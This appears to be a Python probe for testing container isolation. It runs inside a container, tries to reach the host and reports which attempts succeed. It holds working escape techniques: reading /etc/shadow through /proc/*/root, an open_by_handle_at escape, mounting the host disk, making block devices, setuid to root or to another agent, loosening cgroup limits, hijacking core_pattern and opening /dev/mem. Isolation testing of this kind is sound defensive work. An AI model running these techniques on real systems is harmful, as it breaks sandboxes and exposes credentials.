"""A program for the inside of a container: tries to reach the host, and prints what it found.

Told by its environment what to look for: TARGETS, JSON. With `only_reads` it leaves out what would change a host.
"""

import ctypes
import glob
import hashlib
import json
import os
import stat

TARGETS = json.loads(os.environ["TARGETS"])
libc = ctypes.CDLL(None, use_errno=True)
found, refused = [], []


def attempt(what, action):
    try:
        result = action()
    except Exception as error:
        refused.append(f"{what}: {type(error).__name__} {error}")
        return
    (found if result else refused).append(what)


def is_the_hosts(path):
    with open(path, "rb") as file:
        return hashlib.sha256(file.read()).hexdigest() in TARGETS["digests"]


def mounted(source, kind, flags):
    os.makedirs("/tmp/there", exist_ok=True)
    return libc.mount(source.encode(), b"/tmp/there", kind, flags, None) == 0


def device():
    os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(*TARGETS["disk"]))
    return os.open("/tmp/disk", os.O_RDONLY)


def by_handle():
    # The old way out of containers whose root is the host's: opening an inode of the same disk by its number.
    handle = (ctypes.c_char * 16)(*(bytes([byte]) for byte in b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0"))
    return libc.open_by_handle_at(os.open(TARGETS["own"], os.O_RDONLY), handle, os.O_RDONLY) >= 0


def loosened(name, value):
    """A limit of its own, or of a group above; what it may make below its own group holds nobody but itself."""
    for limit in glob.glob(f"/sys/fs/cgroup/**/{name}", recursive=True):
        try:
            with open(limit, "w") as file:
                return file.write(value)
        except OSError:
            continue
    return False


def obeyed_by_the_kernel():
    with open("/proc/sys/kernel/core_pattern", "w") as pattern:
        return pattern.write("|/tmp/x")


attempt("shadow", lambda: is_the_hosts("/etc/shadow"))
attempt("secret", lambda: is_the_hosts(TARGETS["secret"]))
for process in glob.glob("/proc/[0-9]*"):
    attempt(f"{process} shadow", lambda process=process: is_the_hosts(f"{process}/root/etc/shadow"))
    attempt(f"{process} secret", lambda process=process: is_the_hosts(f"{process}/root{TARGETS['secret']}"))
for folder in ("/agents/bob", "/applied", "/root/.ssh", "/var/lib/docker", "/home"):
    attempt(folder, lambda folder=folder: os.listdir(folder))
if not TARGETS.get("only_reads"):
    attempt("being root", lambda: os.getuid() == 0 or os.setuid(0) is None)
    attempt("mounting the disk", lambda: mounted(TARGETS["device"], b"ext4", 0))
    attempt("making a device", device)
    attempt("opening by handle", by_handle)
    attempt("being another agent", lambda: os.setuid(TARGETS["uid"]) is None)
    for name, value in (("memory.limit_in_bytes", "-1"), ("pids.max", "max"), ("cpu.cfs_quota_us", "-1")):
        attempt(f"loosening {name}", lambda name=name, value=value: loosened(name, value))
    attempt("loosening memory.max", lambda: loosened("memory.max", "max"))
    attempt("telling the kernel", obeyed_by_the_kernel)
    attempt("seeing processes", lambda: len([name for name in os.listdir("/proc") if name.isdigit()]) > 3)
    attempt("the host's memory", lambda: os.open("/dev/mem", os.O_RDONLY))
print(json.dumps({"found": found, "refused": refused}))
